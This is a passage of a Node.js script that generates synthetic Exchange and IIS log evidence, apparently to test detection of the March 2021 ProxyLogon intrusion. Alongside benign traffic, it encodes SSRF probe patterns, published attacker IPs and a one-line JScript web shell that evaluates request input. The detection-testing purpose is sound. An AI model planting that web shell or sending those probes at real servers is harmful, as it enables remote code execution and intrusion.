#!/usr/bin/env node
// Generates examples/evidence/: four Exchange servers' evidence laid out like a copy of their C: drive.
//
//   node scripts/make-examples.mjs [OUT_DIR]      (default: examples/evidence, replaced entirely)
//
// Deterministic: fixed seeds, fixed dates, no clock or environment input, so a re-run writes identical bytes
// (test/examples.test.ts checks that against the committed tree). Plain Node, no dependencies; the seeded generator
// and the HttpProxy layout come from bench/lib.mjs, which the bench corpora share.
//
// Formats follow the exact header blocks and column layouts of the artefacts.help samples (Qazeer/artefacts.help,
// CC0: HttpProxy 74 columns, ECP Server 4 columns) and the IIS 10 W3C file of EVTX-ATTACK-SAMPLES
// (Tunna_rdp_tunnel_IIS.log). Attack values are the real ones from the HelseCERT 2021-03 incident
// (helsecert/2021-march-exchange) and signature-base PR #125 (the Microsoft NSE x.js probe), padded into full rows.
// Everything else (names, internal addresses, background traffic, GUIDs, timings) is synthetic; public synthetic
// addresses come from the documentation ranges 192.0.2.0/24, 198.51.100.0/24 and 203.0.113.0/24.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { HP_FIELDS, hpIdleLatencies, mulberry32 } from '../bench/lib.mjs';

const REPO = dirname(dirname(fileURLToPath(import.meta.url)));
const OUT = resolve(process.argv[2] ?? join(REPO, 'examples', 'evidence'));
const CRLF = '\r\n';
const EX = 'C/Program Files/Microsoft/Exchange Server/V15';

// ---------------------------------------------------------------------------------------------------------------
// Deterministic randomness

class Rng {
  constructor(seed) {
    this.next = mulberry32(seed);
  }
  int(lo, hi) {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  pick(list) {
    return list[Math.floor(this.next() * list.length)];
  }
  hex(n) {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(0, 15)];
    return s;
  }
  guid() {
    const h = this.hex(32);
    const variant = '89ab'[this.int(0, 3)];
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${variant}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }
  alnum(n) {
    const a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
    let s = '';
    for (let i = 0; i < n; i++) s += a[this.int(0, a.length - 1)];
    return s;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Time helpers (all UTC)

const DAY = 86_400_000;
const iso = (ms) => new Date(ms).toISOString();
const ymd = (ms) => iso(ms).slice(0, 10).replace(/-/g, '');
const ymdh = (ms) => ymd(ms) + iso(ms).slice(11, 13);
const at = (s) => Date.parse(s);
/** Midnight of every day from `from` to `to` inclusive, stepping `step` days. */
function days(from, to, step = 1) {
  const out = [];
  for (let t = at(`${from}T00:00:00.000Z`); t <= at(`${to}T00:00:00.000Z`); t += step * DAY) out.push(t);
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// Output

const files = new Map();
function put(rel, text) {
  if (files.has(rel)) throw new Error(`duplicate output ${rel}`);
  files.set(rel, text);
}
const crlf = (lines) => lines.map((l) => l + CRLF).join('');

/** Rows ({ t, line, … }) grouped by `key(row)` into one log file each, every group in time order. */
function byFile(rows, key) {
  const groups = new Map();
  for (const r of rows) {
    const k = key(r);
    if (!groups.has(k)) groups.set(k, []);
    groups.get(k).push(r);
  }
  for (const list of groups.values()) list.sort((a, b) => a.t - b.t);
  return groups;
}

// ---------------------------------------------------------------------------------------------------------------
// Exchange CSV logs: HttpProxy (74 columns) and ECP Server, headers exactly as artefacts.help shows them

const HP_COLS = HP_FIELDS.split(',');
if (HP_COLS.length !== 74) throw new Error('HttpProxy layout must have 74 columns');

/** Exchange's CSV writer: a value holding a comma, quote or line break is quoted, quotes doubled. */
function csvCell(v) {
  const s = v === undefined || v === null ? '' : String(v);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

function exchangeHeader(version, logType, firstMs, fields) {
  return [`#Software: Microsoft Exchange Server`, `#Version: ${version}`, `#Log-type: ${logType}`, `#Date: ${iso(firstMs)}`, `#Fields: ${fields}`];
}

/** A server: names, build, addresses. */
function server(o) {
  const [maj, min, bld, rev] = o.build.split('.');
  return {
    ...o,
    fqdn: `${o.name}.${o.domain}`,
    hpVersion: o.build,
    verCols: [String(Number(maj)), String(Number(min)), String(Number(bld)), String(Number(rev))],
    bld: `${Number(maj)}.${Number(min)}.${Number(bld)}.${Number(rev)}`,
    tsv: `${maj}.${min}.${bld}.000`,
  };
}

/** User agents as HttpProxy writes them (a comma becomes a space, so "KHTML, like" reads "KHTML  like"). */
const hpUa = (ua) => ua.replace(/,/g, ' ');
const iisUa = (ua) => ua.replace(/ /g, '+');

const UA = {
  chrome: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36',
  edge: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150 Safari/537.36 Edg/88.0.705.63',
  outlook: 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5110; Pro)',
  iphone: 'Apple-iPhone12C1/1802.67',
  outlookMobile: 'Outlook-iOS-Android/1.0',
  macMail: 'AppleExchangeWebServices/818.120.2 accountsd/113',
};

/** One HttpProxy row: the column values named, everything else empty, in the 74-column order. */
function hpRow(srv, v) {
  const row = { MajorVersion: srv.verCols[0], MinorVersion: srv.verCols[1], BuildVersion: srv.verCols[2], RevisionVersion: srv.verCols[3], ...v };
  return HP_COLS.map((c) => csvCell(row[c])).join(',');
}

/** GenericInfo of a proxied request, shaped like the artefacts.help rows. */
function proxiedInfo(begin, end, extra = '') {
  const mid = iso(begin + Math.max(1, Math.floor((end - begin) / 3)));
  return `BeginRequest=${iso(begin)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;${extra}BeginGetResponse=${mid};OnResponseReady=${iso(end)};EndGetResponse=${iso(end)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(end)};`;
}

function latencies(total, rng) {
  const be = Math.max(0, total - rng.int(2, 6));
  // ADLatency .. TotalRequestTime, as in the samples (a few small numbers, the back-end time, the total).
  return {
    ...hpIdleLatencies(),
    CalculateTargetBackEndLatency: '0',
    ADLatency: '',
    ActivityContextLifeTime: String(total),
    ClientReqStreamLatency: '0',
    BackendReqInitLatency: '1',
    BackendProcessingLatency: String(be),
    RequestHandlerLatency: String(total),
    ProxyTime: String(be + 1),
    CoreLatency: String(total - be),
    RoutingLatency: String(total - be),
    HttpProxyOverhead: String(total - be + 1),
    TotalRequestTime: String(total),
  };
}

/** Both ends answered 200. */
const OK = { HttpStatus: '200', BackEndStatus: '200' };

/** A request by `user`, anchored on the user's SID (MAPI and RPC override the anchor with the mailbox GUID). */
const byUser = (srv, user, AuthenticationType) => ({ AuthenticationType, IsAuthenticated: 'true', AuthenticatedUser: `${srv.netbios}\\${user.login}`, AnchorMailbox: `Sid~${srv.sidBase}-${user.rid}` });

/** The health mailbox's local AMProbe GET of `stem` (Managed Availability's probes). */
const healthProbe = (srv, stem) => ({
  UrlHost: 'localhost',
  UrlStem: stem,
  AuthenticationType: 'Negotiate',
  IsAuthenticated: 'true',
  AuthenticatedUser: `${srv.netbios}\\${srv.healthMailbox}`,
  AnchorMailbox: `Sid~${srv.sidBase}-1142`,
  UserAgent: 'AMProbe/Local/ClientAccess',
  ClientIpAddress: '127.0.0.1',
  HttpStatus: '200',
  Method: 'GET',
  RoutingHint: 'WindowsIdentity',
  RequestBytes: '0',
});

/** The BackEndCookie of a request routed to the mailbox database (valid for 30 days). */
const dbCookie = (srv, t, suffix = '') => `Database~${srv.dbGuid}~~${iso(t + 30 * DAY).slice(0, 19)}${suffix}`;

/**
 * A benign request of one protocol at time t, values modelled on the artefacts.help rows. Property order is draw
 * order: every rng call below happens in the order it is written, and changing it changes the committed examples.
 */
function benignRow(srv, protocol, t, rng) {
  const total = rng.int(4, 60);
  const begin = t - total;
  const user = rng.pick(srv.users);
  const common = {
    DateTime: iso(t),
    RequestId: rng.guid(),
    Protocol: protocol,
    ServerHostName: srv.name,
    ProxyAction: 'Proxy',
    TargetServer: srv.fqdn,
    TargetServerVersion: srv.tsv,
    RoutingType: 'IntraForest',
    ...latencies(total, rng),
    RoutingStatus: 'CafeV1',
    DatabaseGuid: '',
  };
  // Most protocols: a proxied request to the user's database.
  const proxied = (v, extraInfo) => hpRow(srv, { ...common, ...v, GenericInfo: proxiedInfo(begin, t, extraInfo), DatabaseGuid: `|RoutingDB:${srv.dbGuid}` });
  // ...made by the user's client; `v` holds what differs, in draw order.
  const userRequest = (auth, v, extraInfo) => proxied({ ...byUser(srv, user, auth), ...OK, Method: 'POST', ...v }, extraInfo);
  const sizes = (req, res) => ({ RequestBytes: String(rng.int(...req)), ResponseBytes: String(rng.int(...res)) });
  const probe = rng.int(0, 2) === 0;
  switch (protocol) {
    case 'Owa':
      if (probe) return proxied({ ...healthProbe(srv, '/owa/'), BackEndStatus: '200', ResponseBytes: String(rng.int(9000, 12000)) });
      return userRequest('Negotiate', {
        UrlHost: srv.publicHost, UrlStem: '/owa/service.svc', ProtocolAction: rng.pick(['GetItem', 'FindItem', 'FindConversation', 'GetConversationItems', 'GetOwaUserConfiguration']),
        UserAgent: hpUa(rng.pick([UA.chrome, UA.edge])), ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'WindowsIdentity', BackEndCookie: dbCookie(srv, t, `~${srv.domain}~1`),
        ...sizes([300, 2400], [800, 40000]), UrlQuery: `?action=${rng.pick(['GetItem', 'FindItem', 'FindConversation'])}&app=Mail&n=${rng.int(10, 99)}`,
      });
    case 'Ews':
      return hpRow(srv, {
        ...common,
        ...healthProbe(srv, '/ews/'),
        GenericInfo: `BeginRequest=${iso(begin)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;ProxyState-Complete=PrepareServerRequest;SharedCacheGuard=0;EndRequest=${iso(t)};`,
        DatabaseGuid: `|RoutingDB:${srv.dbGuid}`,
      });
    case 'Mapi': {
      const mbx = user.mailboxGuid;
      const client = `R:${rng.guid()}:${rng.int(1, 40)};RT:${rng.pick(['Connect', 'Execute', 'Execute', 'Disconnect'])};CI:${rng.guid()}:1;CID:${rng.guid()}`;
      return userRequest(
        'Negotiate',
        {
          ClientRequestId: client, UrlHost: srv.fqdn, UrlStem: '/mapi/emsmdb/', Organization: srv.domain, AnchorMailbox: `MailboxGuid~${mbx}`,
          UserAgent: 'MapiHttpClient', ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'MailboxGuidWithDomain', BackEndCookie: dbCookie(srv, t),
          ...sizes([4, 900], [90, 5000]), UrlQuery: `?mailboxId=${mbx}@${srv.domain}`,
        },
        `BeginGetRequestStream=${iso(begin + 2)};OnRequestStreamReady=${iso(begin + 2)};`,
      );
    }
    case 'Eas':
      return userRequest('Basic', {
        UrlHost: srv.publicHost, UrlStem: '/Microsoft-Server-ActiveSync/default.eas',
        UserAgent: rng.pick([UA.iphone, UA.outlookMobile]), ClientIpAddress: rng.pick(srv.mobileIps), RoutingHint: 'WindowsIdentity-NoDatabase',
        ...sizes([20, 400], [20, 9000]), UrlQuery: `?Cmd=${rng.pick(['Sync', 'Ping', 'FolderSync'])}&User=${srv.domain}%5C${user.login}&DeviceId=${user.deviceId}&DeviceType=${rng.pick(['iPhone', 'Outlook'])}`,
      });
    case 'Autodiscover':
      return userRequest(
        'NTLM',
        {
          UrlHost: srv.autodiscoverHost, UrlStem: '/autodiscover/autodiscover.xml',
          UserAgent: hpUa(rng.pick([UA.outlook, UA.macMail])), ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'WindowsIdentity', BackEndCookie: dbCookie(srv, t, `~${srv.domain}~1`),
          ...sizes([300, 400], [300, 4000]),
        },
        `RandomBE=${srv.fqdn}~1942063431;`,
      );
    case 'Ecp':
      return userRequest('Negotiate', {
        UrlHost: srv.publicHost, UrlStem: '/ecp/RulesEditor/InboxRules.svc/GetList',
        UserAgent: hpUa(UA.chrome), ClientIpAddress: rng.pick(srv.clientIps), RoutingHint: 'WindowsIdentity',
        ...sizes([100, 500], [400, 3000]), UrlQuery: `?msExchEcpCanary=${rng.alnum(43)}.`,
      });
    case 'PowerShell':
      // Not routed to a database: no RoutingDB.
      return hpRow(srv, {
        ...common,
        UrlHost: srv.fqdn.toLowerCase(),
        UrlStem: '/powershell',
        ProtocolAction: rng.pick(['New-PSSession:Receive', 'Get-Mailbox:Command', 'Remove-PSSession:Signal']),
        AuthenticationType: 'Kerberos',
        IsAuthenticated: 'true',
        AuthenticatedUser: `${srv.netbios}\\${srv.healthMailbox}`,
        AnchorMailbox: `ServerVersion~Version ${srv.verCols[0]}.${srv.verCols[1]} (Build ${srv.verCols[2]}.0)`,
        UserAgent: 'Microsoft WinRM Client',
        ClientIpAddress: srv.ip,
        ...OK,
        Method: 'POST',
        RoutingHint: 'ExchClientVer-ServerCookie',
        BackEndCookie: `Server~${srv.fqdn.toLowerCase()}~1942063431~${iso(t + 600_000).slice(0, 19)}`,
        RequestBytes: String(rng.int(900, 2100)),
        ResponseBytes: String(rng.int(400, 1000)),
        UrlQuery: `?clientApplication=ActiveMonitor;PSVersion=5.1.14393.4169&sessionID=Version_${srv.verCols[0]}.${srv.verCols[1]}_(Build_${srv.verCols[2]}.0)=${rng.alnum(60)}=`,
        GenericInfo: proxiedInfo(begin, t, `SessionId=${rng.guid().toUpperCase()};ShellId=${rng.guid().toUpperCase()};`),
      });
    case 'RpcHttp':
      return userRequest('NTLM', {
        UrlHost: srv.publicHost, UrlStem: '/rpc/rpcproxy.dll', AnchorMailbox: `MailboxGuid~${user.mailboxGuid}`,
        UserAgent: 'MSRPC', ClientIpAddress: rng.pick(srv.clientIps), Method: 'RPC_IN_DATA', RoutingHint: 'MailboxGuidWithDomain',
        RequestBytes: String(rng.int(100, 9000)), ResponseBytes: '0', UrlQuery: `?${user.mailboxGuid}@${srv.domain}:6001`,
      });
    default:
      throw new Error(protocol);
  }
}

/** An unauthenticated request the front end answers itself (no back end), like the artefacts.help admin.cfg row. */
function frontEndRow(srv, t, v) {
  return hpRow(srv, {
    DateTime: iso(t),
    Protocol: 'Owa',
    AuthenticationType: 'FBA',
    IsAuthenticated: 'false',
    ServerHostName: srv.name,
    RequestBytes: '0',
    ActivityContextLifeTime: '0',
    TotalRequestTime: '0',
    HttpProxyOverhead: '0',
    GenericInfo: `BeginRequest=${iso(t - 1)};CorrelationID=<empty>;SharedCacheGuard=0;${v.noCookies ? `NoCookies=302 - GET/E14AuthPost;` : ''}EndRequest=${iso(t)};`,
    ...v,
  });
}

/** HttpProxy files: rows grouped by protocol and hour, one `HttpProxy_YYYYMMDDHH-1.LOG` each. */
function writeHttpProxy(host, srv, rows) {
  for (const [key, list] of byFile(rows, (r) => `${r.protocol}/${ymdh(r.t)}`)) {
    const [protocol, hour] = key.split('/');
    const hourMs = at(`${hour.slice(0, 4)}-${hour.slice(4, 6)}-${hour.slice(6, 8)}T${hour.slice(8, 10)}:00:00.000Z`);
    // The file is opened by the first request of the hour; #Date is a moment before it.
    const opened = Math.max(hourMs, list[0].t - 13);
    const lines = [...exchangeHeader(srv.hpVersion, 'HttpProxy Logs', opened, HP_FIELDS), ...list.map((r) => r.line)];
    put(`${host}/${EX}/Logging/HttpProxy/${protocol}/HttpProxy_${hour}-1.LOG`, crlf(lines));
  }
}

/** An EventData `S:KEY=value` pair; a value with a quote or `;` is wrapped in single quotes, inner quotes doubled. */
function ecpPair(key, value) {
  const pair = `S:${key}=${value}`;
  return /[';]/.test(value) ? `'${pair.replace(/'/g, "''")}'` : pair;
}

/** One ECP Server log row: TimeStamp,ServerName,EventId,EventData (EventData CSV-quoted when it needs it). */
function ecpRow(srv, t, rng, { cmd, url, ex = '', sid, time }) {
  const data = [
    ecpPair('TIME', String(time ?? rng.int(8, 400))),
    ecpPair('SID', sid ?? rng.guid()),
    ecpPair('CMD', cmd),
    ecpPair('REQID', ''),
    ecpPair('URL', url),
    ecpPair('REFERRER', ''),
    ecpPair('EX', ex),
    ecpPair('ACTID', rng.guid()),
    ecpPair('RS', '0'),
    ecpPair('BLD', srv.bld),
    ecpPair('TNAME', '<null>'),
    ecpPair('TID', ''),
    ecpPair('USID', rng.guid()),
    ecpPair('EDOID', ''),
    ecpPair('ACID', ''),
  ].join(';');
  return [iso(t), srv.name, 'ECP.Request', data].map(csvCell).join(',');
}

function writeEcpServer(host, srv, rows) {
  for (const [d, list] of byFile(rows, (r) => ymd(r.t))) {
    const lines = [...exchangeHeader('15.0.0.0', 'ECP Server Log', list[0].t - 28, 'TimeStamp,ServerName,EventId,EventData'), ...list.map((r) => r.line)];
    put(`${host}/${EX}/Logging/ECP/Server/ECPServer${d}-1.LOG`, crlf(lines));
  }
}

/** Benign ECP Server rows: health-mailbox probes and an administrator's routine reads. */
function benignEcp(srv, t, rng) {
  const canary = rng.alnum(43) + '.';
  const c = rng.int(0, 3);
  if (c === 0)
    return ecpRow(srv, t, rng, { cmd: 'Get-InboxRule', url: `/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=${canary}` });
  if (c === 1)
    return ecpRow(srv, t, rng, { cmd: 'Pipeline.1|Get-MailboxRegionalConfiguration', url: `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${canary}&schema=MailboxRegionalConfiguration` });
  if (c === 2)
    return ecpRow(srv, t, rng, {
      cmd: `Get-Mailbox.ResultSize=''500''.SortBy=''DisplayName''`.replace(/''/g, "'"),
      url: `/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=${canary}&schema=MailboxService`,
    });
  return ecpRow(srv, t, rng, {
    cmd: `Get-OwaVirtualDirectory.ADPropertiesOnly=$true.Identity=$null`,
    url: `/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=${canary}&schema=OWAVirtualDirectory`,
  });
}

// ---------------------------------------------------------------------------------------------------------------
// IIS W3C (IIS 10, the 15 default fields, as in Tunna_rdp_tunnel_IIS.log)

const IIS_FIELDS = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken';

/** cs-uri-query of a request that went through Exchange's front end (it appends its own tokens). */
const cafeQuery = (q, rng) => `${q ? q : ''}&CorrelationID=<empty>;&cafeReqId=${rng.guid()};${q && q.includes('encoding') ? '' : '&encoding=;'}`;

function iisLine(t, srv, v) {
  const d = iso(t);
  return [d.slice(0, 10), d.slice(11, 19), srv.ip, v.method, v.stem, v.query || '-', v.port ?? 443, v.user || '-', v.cip, v.ua ? iisUa(v.ua) : '-', v.ref || '-', v.status, v.sub ?? 0, v.win32 ?? 0, v.taken].join(' ');
}

function benignIis(srv, t, rng) {
  const user = rng.pick(srv.users);
  switch (rng.int(0, 4)) {
    case 0:
      return iisLine(t, srv, { method: 'GET', stem: '/owa/', query: cafeQuery('', rng), user: `${srv.netbios}\\${srv.healthMailbox}`, cip: '127.0.0.1', ua: 'AMProbe/Local/ClientAccess', status: 200, taken: rng.int(8, 40) });
    case 1:
      return iisLine(t, srv, { method: 'POST', stem: '/mapi/emsmdb/', query: cafeQuery(`mailboxId=${user.mailboxGuid}@${srv.domain}`, rng), user: `${user.login}@${srv.domain}`, cip: rng.pick(srv.clientIps), ua: 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5110; Pro)', status: 200, taken: rng.int(10, 900) });
    case 2:
      return iisLine(t, srv, { method: 'POST', stem: '/Microsoft-Server-ActiveSync/default.eas', query: cafeQuery(`Cmd=Ping&User=${user.login}&DeviceId=${user.deviceId}&DeviceType=iPhone`, rng), user: `${srv.netbios}\\${user.login}`, cip: rng.pick(srv.mobileIps), ua: UA.iphone, status: 200, taken: rng.int(30000, 900000) });
    case 3:
      return iisLine(t, srv, { method: 'GET', stem: '/owa/auth/logon.aspx', query: cafeQuery('url=https%3a%2f%2f' + srv.publicHost + '%2fowa%2f&reason=0', rng), cip: rng.pick(srv.clientIps), ua: UA.chrome, status: 200, taken: rng.int(5, 60) });
    default:
      return iisLine(t, srv, { method: 'POST', stem: '/owa/service.svc', query: cafeQuery(`action=GetItem&app=Mail&n=${rng.int(10, 99)}`, rng), user: `${srv.netbios}\\${user.login}`, cip: rng.pick(srv.clientIps), ua: UA.edge, ref: `https://${srv.publicHost}/owa/`, status: 200, taken: rng.int(15, 300) });
  }
}

function writeIis(host, rows) {
  for (const [d, list] of byFile(rows, (r) => iso(r.t).slice(2, 10).replace(/-/g, ''))) {
    const opened = iso(list[0].t - 1000);
    const head = ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', `#Date: ${opened.slice(0, 10)} ${opened.slice(11, 19)}`, `#Fields: ${IIS_FIELDS}`];
    put(`${host}/C/inetpub/logs/LogFiles/W3SVC1/u_ex${d}.log`, crlf([...head, ...list.map((r) => r.line)]));
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Background traffic over a window

const PROTOCOL_CYCLE = ['Owa', 'Ews', 'Owa', 'Mapi', 'Owa', 'Eas', 'Owa', 'Autodiscover', 'Owa', 'Ecp', 'Owa', 'PowerShell', 'Owa', 'RpcHttp'];

/** Business-hours-ish time on a day (UTC). */
const dayTime = (d, rng) => d + rng.int(6, 18) * 3_600_000 + rng.int(0, 3_599_999);

function background(srv, rng, { from, to, httpEvery = 1, ecpEvery = 7, iisEvery = 2, iisFrom = from, iisTo = to }) {
  const hp = [];
  const ecp = [];
  const iis = [];
  const list = days(from, to, httpEvery);
  const last = at(`${to}T00:00:00.000Z`);
  if (list[list.length - 1] !== last) list.push(last);
  list.forEach((d, i) => {
    // Owa on the first and last day so that one source spans the whole window; the others rotate.
    const protocol = i === 0 || d === last ? 'Owa' : PROTOCOL_CYCLE[i % PROTOCOL_CYCLE.length];
    const hourStart = dayTime(d, rng);
    const n = rng.int(2, 3);
    for (let k = 0; k < n; k++) {
      const t = Math.min(hourStart - (hourStart % 3_600_000) + 3_599_000, hourStart + k * rng.int(2_000, 600_000));
      hp.push({ protocol, t, line: benignRow(srv, protocol, t, rng) });
    }
  });
  for (const d of days(from, to, ecpEvery)) {
    const t = dayTime(d, rng);
    for (let k = 0; k < 2; k++) ecp.push({ t: t + k * 700, line: benignEcp(srv, t + k * 700, rng) });
  }
  const iisDays = iisFrom === null ? [] : days(iisFrom, iisTo, iisEvery);
  if (iisDays.length && iisDays[iisDays.length - 1] !== at(`${iisTo}T00:00:00.000Z`)) iisDays.push(at(`${iisTo}T00:00:00.000Z`));
  for (const d of iisDays) {
    const n = rng.int(3, 5);
    for (let k = 0; k < n; k++) {
      const t = dayTime(d, rng);
      iis.push({ t, line: benignIis(srv, t, rng) });
    }
  }
  return { hp, ecp, iis };
}

// ---------------------------------------------------------------------------------------------------------------
// Scanner noise (real shapes)

/**
 * An unauthenticated GET of `host` + `stem` from a scanner at `ip` (anchor: its AnchorMailbox cookie), as the front end
 * logs it. `more()` gives the rest of the row; it is called after the request id is drawn, to keep the draw order.
 */
function scannerRow(srv, rng, { protocol, t, ip, host, stem, anchor, ua }, more) {
  const request = { DateTime: iso(t), RequestId: rng.guid(), Protocol: protocol, UrlHost: host, UrlStem: stem, AuthenticationType: 'FBA', IsAuthenticated: 'false', AnchorMailbox: anchor, UserAgent: ua };
  return { protocol, t, line: hpRow(srv, { ...request, ClientIpAddress: ip, ServerHostName: srv.name, Method: 'GET', ProxyAction: 'Proxy', RequestBytes: '0', ...more() }) };
}

/** An SSRF probe that the front end proxied to `target`, whose failure it logged as a 500 (total ms). */
const failedSsrf = (target, total) => ({
  HttpStatus: '500',
  BackEndStatus: '500',
  TargetServer: target,
  TargetServerVersion: '0.00.0003.000',
  RoutingType: 'CrossRegion',
  RoutingHint: 'X-AnonResource-Backend-Cookie',
  ResponseBytes: '85',
  ActivityContextLifeTime: String(total),
  TotalRequestTime: String(total),
});

/** Microsoft's http-vuln-cve2021-26855 NSE probe, in the shape published in signature-base PR #125. */
function nseProbe(srv, t, ip, rng) {
  const total = rng.int(60, 90);
  const ua = hpUa('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)');
  return scannerRow(srv, rng, { protocol: 'Owa', t, ip, host: srv.publicIp, stem: '/owa/auth/x.js', anchor: 'ServerInfo~localhost/ecp/default.flt?', ua }, () => ({
    ...failedSsrf('localhost', total),
    TargetOutstandingRequests: '1',
    HttpPipelineLatency: '1',
    CalculateTargetBackEndLatency: '7',
    BackendProcessingLatency: String(total - 9),
    GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;ProxyToDownLevel=True;BeginGetResponse=${iso(t - total + 8)};OnResponseReady=${iso(t)};EndGetResponse=${iso(t)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(t)};`,
    GenericErrors: 'WebExceptionStatus=ProtocolError;ResponseStatusCode=500;WebException=System.Net.WebException: The remote server returned an error: (500) Internal Server Error.',
  }));
}

/** zgrab reading the eDiscovery export-tool manifest for the build number (the artefacts.help Ecp row). */
function zgrab(srv, t, ip, rng) {
  const total = rng.int(20, 40);
  const stem = '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application';
  return scannerRow(srv, rng, { protocol: 'Ecp', t, ip, host: srv.publicIp, stem, anchor: 'ServerVersion~Version 15.0 (Build 0.0)', ua: 'Mozilla/5.0 zgrab/0.x' }, () => ({
    ...OK,
    TargetServer: srv.fqdn,
    TargetServerVersion: srv.tsv,
    RoutingType: 'IntraForest',
    RoutingHint: 'EDiscoveryExportTool-ServerVersion',
    ResponseBytes: '10112',
    ...latencies(total, rng),
    GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;Krb=UA;CT=An;NewConnection=${ip}&0;BeginGetResponse=${iso(t - total + 7)};OnResponseReady=${iso(t)};EndGetResponse=${iso(t)};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${iso(t)};`,
    RoutingStatus: 'CafeV1',
  }));
}

/** An out-of-band SSRF test (Burp Collaborator canary in the X-AnonResource-Backend cookie). */
function burpCanary(srv, t, ip, rng) {
  const host = `${rng.alnum(30).toLowerCase()}.burpcollaborator.net`;
  const total = rng.int(40, 120);
  const ua = hpUa('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36');
  return scannerRow(srv, rng, { protocol: 'Ecp', t, ip, host: srv.publicHost, stem: '/ecp/x.js', anchor: `ServerInfo~${host}/ecp/default.flt?`, ua }, () => ({
    ...failedSsrf(host, total),
    GenericInfo: `BeginRequest=${iso(t - total)};CorrelationID=<empty>;ProxyState-Run=None;ProxyToDownLevel=True;SharedCacheGuard=0;EndRequest=${iso(t)};`,
    GenericErrors: 'WebExceptionStatus=ProtocolError;ResponseStatusCode=500',
  }));
}

// ---------------------------------------------------------------------------------------------------------------
// Hosts

function people(rng, n) {
  const names = ['anna.berg', 'ola.nordmann', 'kari.hansen', 'lars.olsen', 'ingrid.dahl', 'per.johansen', 'siri.lie', 'erik.moen', 'nina.strand', 'jonas.bakke'];
  return names.slice(0, n).map((login, i) => ({ login, rid: String(1100 + 17 * i + rng.int(0, 9)), mailboxGuid: rng.guid(), deviceId: rng.hex(32).toUpperCase() }));
}

/** A host's logs (HttpProxy, ECP Server, IIS W3SVC1 rows) and its README. */
function writeHost(host, srv, { hp, ecp, iis }) {
  writeHttpProxy(host, srv, hp);
  writeEcpServer(host, srv, ecp);
  writeIis(host, iis);
  put(`${host}/README.md`, hostReadme(host));
}

/** MAIL0n (Exchange 2016 CU19 at `build`), drawn from its own seed so that one host's changes leave the others be. */
function mailServer(n, build) {
  const rng = new Rng(0x0e1c0000 + n);
  return { rng, srv: baseServer(rng, { name: `MAIL0${n}`, build, ip: `10.20.0.1${n}`, publicIp: `192.0.2.1${n}`, dc: 'DC01.corp.example.org', org: 'Example' }) };
}

/** Exchange 2016 CU19 with the March 2021 security update. */
const PATCHED = '15.01.2176.009';

function baseServer(rng, o) {
  return server({
    domain: 'corp.example.org',
    netbios: 'CORP',
    publicHost: 'mail.example.org',
    autodiscoverHost: 'autodiscover.example.org',
    sidBase: `S-1-5-21-${rng.int(1000000000, 3999999999)}-${rng.int(1000000000, 3999999999)}-${rng.int(100000000, 999999999)}`,
    healthMailbox: `HealthMailbox${rng.hex(7)}`,
    dbGuid: rng.guid(),
    users: people(rng, 8),
    clientIps: ['10.20.1.31', '10.20.1.47', '10.20.2.12', '10.20.3.88', '192.168.50.23'],
    mobileIps: ['198.51.100.23', '198.51.100.87', '203.0.113.140'],
    ...o,
  });
}

// ---- mail01-compromised: Exchange 2016 CU19 without the March 2021 SU, the HelseCERT chain on 2021-03-03 -------

const HELSE = {
  attacker: '130.255.189.21',
  shellIps: ['139.162.202.236', '67.205.176.9'],
  canary1: 'M1xSxxxDuw.',
  canary2: '8BeqxxxWYd1L8.',
  vdir1: '982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3',
  vdir2: 'ecd24641-d37f-4974-89f5-2e85ef7fb8d4',
  script: '<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>',
};

/** The eleven HttpProxy\Ecp rows of the HelseCERT Test-ProxyLogon export: [time, UrlHost kind, UA, backend path, status]. */
const HELSE_ROWS = [
  ['2021-03-03T06:49:42.162Z', 'mail', 'ews', '/autodiscover/autodiscover.xml?#', '200'],
  ['2021-03-03T06:49:43.699Z', 'mail', 'py', '/mapi/emsmdb/?#', '200'],
